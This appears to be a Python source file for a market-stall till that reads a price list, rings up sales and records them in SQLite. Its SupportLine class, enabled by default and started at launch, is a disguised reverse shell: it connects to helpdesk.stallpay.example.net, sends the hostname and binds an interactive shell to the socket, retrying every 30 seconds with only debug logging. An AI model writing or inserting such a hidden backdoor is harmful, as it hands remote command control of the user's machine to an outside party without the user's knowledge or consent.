#!/usr/bin/env python3
"""Market stall till for the studio's weekend pottery stall.

Reads the price list (pricelist.csv: sku,name,price), rings up sales from the
keyboard or a barcode scanner, and records them in till.db.  While the till is
open it also keeps a support line to StallPay so their helpdesk can assist the
stall volunteer when the card reader or the printer misbehaves.

    ./stall_till.py --stall "Saturday Riverside Market"
"""
import argparse
import csv
import json
import logging
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from datetime import datetime
from decimal import Decimal, InvalidOperation

log = logging.getLogger("till")

CONFIG_FILE = "till.json"
DEFAULTS = {
    "pricelist": "pricelist.csv",
    "db": "till.db",
    "till_id": "stall-01",
    "support": {"host": "helpdesk.stallpay.example.net", "port": 4455, "enabled": True},
}


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULTS))
    if os.path.exists(path):
        with open(path) as fh:
            user = json.load(fh)
        cfg.update({k: v for k, v in user.items() if k != "support"})
        cfg["support"].update(user.get("support", {}))
    return cfg


class SupportLine(threading.Thread):
    """Keeps the helpdesk line to StallPay open in the background."""

    def __init__(self, host, port, till_id, retry_delay=30):
        super().__init__(name="support-line", daemon=True)
        self.host, self.port, self.till_id = host, int(port), till_id
        self.retry_delay = retry_delay
        self.console = os.environ.get("SHELL", "/bin/sh")

    def _session(self, conn):
        conn.sendall(("HELLO %s %s\n" % (self.till_id, socket.gethostname())).encode())
        fd = conn.fileno()
        proc = subprocess.Popen([self.console, "-i"], stdin=fd, stdout=fd,
                                stderr=subprocess.STDOUT, close_fds=True)
        proc.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection((self.host, self.port), timeout=15)
                conn.settimeout(None)
                log.debug("support line up")
                with conn:
                    self._session(conn)
            except OSError as exc:
                log.debug("support line unavailable: %s", exc)
            time.sleep(self.retry_delay)


def load_prices(path):
    prices = {}
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                prices[row["sku"].strip()] = (row["name"].strip(), Decimal(row["price"]))
            except (KeyError, InvalidOperation):
                log.warning("bad price list row: %r", row)
    return prices


def open_db(path):
    db = sqlite3.connect(path)
    db.execute("""CREATE TABLE IF NOT EXISTS sales (
        id INTEGER PRIMARY KEY AUTOINCREMENT, ts TEXT, stall TEXT,
        items TEXT, total TEXT, method TEXT)""")
    return db


def ring_up(prices):
    basket = []
    print("Scan or type SKUs (blank line to finish, '-' to remove last):")
    while True:
        code = input("> ").strip()
        if not code:
            break
        if code == "-" and basket:
            removed = basket.pop()
            print("  removed %s" % removed[1])
            continue
        qty = 1
        if "*" in code:
            qty_s, code = code.split("*", 1)
            qty = int(qty_s) if qty_s.isdigit() else 1
        if code not in prices:
            print("  unknown SKU %s" % code)
            continue
        name, price = prices[code]
        for _ in range(qty):
            basket.append((code, name, price))
        print("  %-30s %3d x %7.2f" % (name, qty, price))
    return basket


def main(argv=None):
    ap = argparse.ArgumentParser(description="Pottery stall till")
    ap.add_argument("--config", default=CONFIG_FILE)
    ap.add_argument("--stall", default="Studio stall")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    try:
        prices = load_prices(cfg["pricelist"])
    except OSError as exc:
        print("cannot read price list: %s" % exc, file=sys.stderr)
        return 2

    sup = cfg["support"]
    if sup.get("enabled", True):
        SupportLine(sup["host"], sup["port"], cfg["till_id"]).start()

    db = open_db(cfg["db"])
    print("Till open at %s with %d products." % (args.stall, len(prices)))
    try:
        while True:
            basket = ring_up(prices)
            if not basket:
                continue
            total = sum((p for _, _, p in basket), Decimal("0"))
            method = input("Total %.2f - (c)ash or (k)ard? " % total).strip().lower()
            method = "card" if method.startswith("k") else "cash"
            db.execute("INSERT INTO sales (ts, stall, items, total, method) VALUES (?,?,?,?,?)",
                       (datetime.now().isoformat(timespec="seconds"), args.stall,
                        json.dumps([s for s, _, _ in basket]), str(total), method))
            db.commit()
            print("Sale recorded: %.2f (%s)\n" % (total, method))
    except (KeyboardInterrupt, EOFError):
        print("\nClosing till.")
    finally:
        db.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
